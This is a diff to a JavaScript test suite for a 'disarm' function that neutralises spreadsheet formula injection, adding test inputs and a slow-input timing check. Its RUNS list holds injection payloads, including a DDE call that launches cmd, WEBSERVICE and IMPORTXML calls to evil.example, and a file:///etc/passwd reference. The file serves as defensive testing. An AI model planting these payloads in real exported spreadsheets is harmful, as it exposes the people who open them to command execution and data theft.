@@ -9,11 +9,13 @@ const RUNS = [
   `=DDE("cmd";"/C calc";"x")`, '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")', '+WEBSERVICE("http://evil.example")', '=\'file:///etc/passwd\'#$Sheet1.A1',
   '-(A1)', '+(SUM(A1))', '-"a"&A1', '=-cmd|x!y', '+-SUM(1)', '--SUM(1)', '+=SUM(1)', '-@SUM(1)', '="a"&B1', '="a"+SUM(1)', '+1-800-FLOWERS', '-1|x', '- x!A1', '- note=WEBSERVICE("http://evil.example")',
   '+\u0421\u0423\u041c\u041c(A1)', '=IF(1,2,3)', '={1}', '-{A1}', '+$A$1', '-_xlfn.WEBSERVICE("x")', '@acme!A1', '+12|x', '=\u00a01', '-1*SUM(1)', '-1 *SUM(1)', '+1;SUM(A1)', "+'x'!A1",
+  '- SUM (A1)', '-HYPERLINK ("x")', '- see WEBSERVICE("x")', '- see HYPERLINK ("http://evil.example")', '- see SUM (A1)', '- A1+B1', '-none-(A1)', '-cmd|x-', '- a1 * b2',
 ];
 const HARMLESS = [
   '', 'Ann', '44', '+', '-', '--', '---', '=', '@', '\u2013', '.', '+44 20 7946 0958', '+1 (512) 555-0100 ext. 5', '+1 512 555 0100 x5', '+49 30 1234567 Durchwahl 12', '+1-555-0199', '+1234567890', '+33 (0)6 12 34 56 78',
   '-100', '- 100', '-12.5%', '-1,234.56', '-1.5E+10', '+1.5e-3', '-\u20ac5', '-100 USD', '-5 years', '- call back', '- call back on Monday, not interested', '- follow-up', '+ great fit', '+1 512 555 0100 (mobile)',
   "'=1+1", "'@SUM(A1)", "'+cmd|x", '@acme', '@acme_inc', '@Acme.Inc', 'ann@acme.com', 'a=b', '1+1', 'x|y', '="00123"', '="(703) 439-9049"', '="say ""hi"""', '"=1+1"', '(=1)', '\u674e\u96f7', 'O\u2019Brien', '+4930123456', '\uff0b81 3 1234 5678', '-1/2', '+1/1', '-2+3', '*', '#REF!', '%', '- great!', '- said "call me"',
+  '- called (no answer)', '- call back at 5, ask for Ann', '- met in Q3, demo agreed', '-none-', '--None--', '- Select -', '-- not set --',
 ];
 
 describe('disarm', () => {
@@ -32,7 +34,7 @@ describe('disarm', () => {
 
   test('takes a long cell without delay', () => {
     const started = performance.now();
-    for (const long of ['-' + ' '.repeat(200_000) + 'a', '+' + '1'.repeat(200_000) + 'x', '-' + 'a'.repeat(200_000), '=' + '"'.repeat(200_000), '-1' + 'a '.repeat(100_000)]) disarm(long);
+    for (const long of ['-' + ' '.repeat(200_000) + 'a', '+' + '1'.repeat(200_000) + 'x', '-' + 'a'.repeat(200_000), '=' + '"'.repeat(200_000), '-1' + 'a '.repeat(100_000), '-1' + 'a'.repeat(200_000), '- ab ' + '-'.repeat(200_000) + 'a']) disarm(long);
     expect(performance.now() - started).toBeLessThan(2000);
   });
 });
